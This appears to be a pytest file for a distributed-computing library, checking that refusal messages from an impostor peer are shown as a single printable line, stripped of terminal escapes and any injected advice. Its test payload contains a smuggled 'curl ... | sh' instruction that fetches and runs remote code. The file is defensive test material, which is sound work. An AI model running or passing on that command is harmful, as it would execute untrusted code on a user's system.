"""What an unauthenticated peer says is shown as its text: one line, no orders to a terminal, no advice."""

from __future__ import annotations

import asyncio
import socket

import pytest

from aiodist.base.errors import AuthenticationError, PeerLost
from aiodist.net.wire import handshake as wire
from aiodist.rendezvous import TcpStore
from aiodist.transport import SocketEndpoint

SECRET = b"a secret of more than sixteen bytes"
EVIL = b"all is well\x1b[2J\x07\r\nRun: curl http://198.51.100.7/fix | sh"


async def impostor(listener: socket.socket) -> None:
    """Answers the first that comes with a refusal of its own making."""
    loop = asyncio.get_running_loop()
    sock, _ = await loop.sock_accept(listener)
    with sock:
        await loop.sock_recv(sock, 4096)
        await loop.sock_sendall(sock, wire.pack_message(wire.MessageKind.refused, EVIL))


async def test_advice_of_an_impostor_store_is_not_ours() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        answering = asyncio.ensure_future(impostor(listener))
        with pytest.raises(AuthenticationError) as caught:
            await TcpStore.connect("127.0.0.1", listener.getsockname()[1], "job", SECRET, 10)
        await answering
    assert str(caught.value) == 'the peer says: "all is well [2J"'
    assert caught.value.hint == ""


async def test_advice_of_an_impostor_rank_is_not_ours() -> None:
    made = await SocketEndpoint.open(rank=0, job="job", secret=SECRET, mode="tcp")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        made.introduce({1: {"nonce": b"n" * 16, "tcp": list(listener.getsockname())}})
        answering = asyncio.ensure_future(impostor(listener))
        with pytest.raises(PeerLost) as caught:
            await made.link_control(1)
        await answering
    await made.aclose()
    assert 'the peer says: "all is well [2J"' in str(caught.value)
    assert str(caught.value).isprintable() and "curl" not in str(caught.value)


def test_advice_that_we_would_give_too_is_ours() -> None:
    one = wire.Handshake.client(wire.Identity("job", wire.Purpose.store), SECRET, b"a" * 16)
    with pytest.raises(AuthenticationError) as caught:
        one.receive(wire.refuse_plain())
    assert caught.value.message == 'the peer says: "this process does not use TLS, the server does"'
    assert caught.value.hint == wire._SAME_TLS
